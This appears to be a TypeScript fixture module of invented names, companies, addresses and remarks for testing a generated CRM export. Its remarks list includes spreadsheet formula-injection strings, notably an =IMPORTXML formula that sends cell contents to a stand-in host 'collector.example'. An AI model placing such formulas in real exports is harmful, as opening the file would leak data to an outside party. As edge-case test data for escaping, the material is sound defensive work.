/** The only place that holds the words of the generated RSoft export. Everybody in it is invented, save Ada Lovelace. */

export const firstNames = [
  "Aarav", "Vivaan", "Aditya", "Ishaan", "Kabir", "Rohan", "Nikhil", "Manish", "Ganesh", "Harish", "Imran", "Joseph", "Karthik", "Mohan", "Prakash", "Ravi", "Sameer", "Tarun", "Uday", "Yusuf",
  "Aisha", "Bhavna", "Chitra", "Divya", "Esha", "Gita", "Hema", "Indira", "Jaya", "Kavita", "Leela", "Maya", "Nandini", "Pooja", "Radhika", "Sneha", "Tanvi", "Usha", "Vidya", "Zara",
] as const;
export const lastNames = [
  "Agarwal", "Banerjee", "Chatterjee", "D'Souza", "Fernandes", "Ghosh", "Gupta", "Hegde", "Iyengar", "Jain", "Kapoor", "Kulkarni", "Malhotra", "Menon", "Mukherjee", "Nambiar", "O'Brien",
  "Patel", "Qureshi", "Ramanathan", "Saxena", "Sharma", "Shetty", "Subramanian", "Thakur", "Varghese", "Venkatesan", "Yadav", "van der Merwe", "Bhattacharya",
] as const;
export const companyStems = [
  "Lotus", "Banyan", "Monsoon", "Peacock", "Saffron", "Sandalwood", "Silver Oak", "Blue Lagoon", "Deccan", "Coromandel", "Malabar", "Konkan", "Himgiri", "Aravalli", "Nilgiri", "Godavari",
  "Kaveri", "Tungabhadra", "Chandra", "Surya", "Vajra", "Indigo", "Marigold", "Jasmine", "Tamarind", "Cardamom", "Turmeric", "Palash", "Gulmohar", "Neem",
] as const;
export const companyKinds = [
  "Textiles", "Logistics", "Infotech", "Foods", "Exports", "Pharma", "Motors", "Realty", "Packaging", "Ceramics", "Electricals", "Agro", "Chemicals", "Interiors", "Travels", "Castings", "Papers", "Optics",
] as const;
export const cities = [
  { city: "Bengaluru", state: "Karnataka", pin: "5600", code: "080" }, { city: "Mumbai", state: "Maharashtra", pin: "4000", code: "022" },
  { city: "Chennai", state: "Tamil Nadu", pin: "6000", code: "044" }, { city: "Hyderabad", state: "Telangana", pin: "5000", code: "040" },
  { city: "New Delhi", state: "Delhi", pin: "1100", code: "011" }, { city: "Kolkata", state: "West Bengal", pin: "7000", code: "033" },
] as const;
export const streets = ["MG Road", "Station Road", "Gandhi Nagar, 2nd Cross", "Plot 14, Industrial Area", "\"Shanti\" Building, 3rd Floor", "Ring Road", "Nehru Street"] as const;
export const industries = ["Manufacturing", "IT Services", "Retail", "Real Estate", "Healthcare", "Education", "Logistics", "-"] as const;
export const sizes = ["1-10", "11-50", "51-200", "201-500", "500+"] as const;
export const titles = ["Managing Director", "Purchase Manager", "Proprietor", "VP, Operations", "Accounts Executive", "Head - IT", "Consultant", "N/A"] as const;
export const sources = ["Website", "IndiaMART", "Referral", "Exhibition", "Cold Call", "Google Ads", "Walk-in", "Select"] as const;
export const products = ["Annual maintenance contract", "Billing software, 10 users", "CRM licence (25 seats)", "Warehouse fit-out", "Solar rooftop 40 kW", "Bulk packaging order", "Training programme", "Two-storey office interiors"] as const;
export const lifecycles = ["Subscriber", "Prospect", "Customer", "Repeat Customer", "Dormant"] as const;
export const languages = ["English", "Hindi", "Tamil", "Kannada"] as const;
/** Spellings of the same tags, as people type them. */
export const tagWords = ["VIP", "vip", " Vip", "Hot Lead", "hot lead", "Diwali 2025", "diwali 2025", "Dealer", "South Zone", "south  zone", "North Zone", "Do Not Call", "Newsletter", "AMC", "amc", "Exhibition-2026"] as const;
export const placeholders = ["", "", "NULL", "-", "N/A"] as const;

/** Remarks with everything that trips programs: commas, quotes, line breaks, formulas, markup, other scripts. */
export const remarks = [
  "Spoke to the purchase team, wants a revised quote by Monday.",
  "Said \"call me after Diwali\", then hung up.",
  "Line one of the note\nLine two, with a comma\n\nRegards",
  "=IMPORTXML(\"https://collector.example/?d=\"&A1,\"//a\")",
  "=HYPERLINK(\"https://collector.example\",\"click\")",
  "+91 numbers only, please",
  "-5% discount asked for",
  "@Accounts please check the invoice",
  "<p>Met at the <b>exhibition</b>.</p><ul><li>Needs 3 units</li><li>Budget fixed</li></ul><p>Next: <a href=\"https://crm.example/q/12\">quotation</a></p>",
  "ग्राहक ने अगले सप्ताह डेमो माँगा है।",
  "வாடிக்கையாளர் விலைப்பட்டியலை கேட்டார், மீண்டும் அழைக்கவும்.",
  "Follow up; price is a concern / compare with last year's order",
  "",
] as const;

export const longTitle = "Supply, installation, testing and commissioning of the complete packaging line including spares, training and a two-year comprehensive maintenance contract";
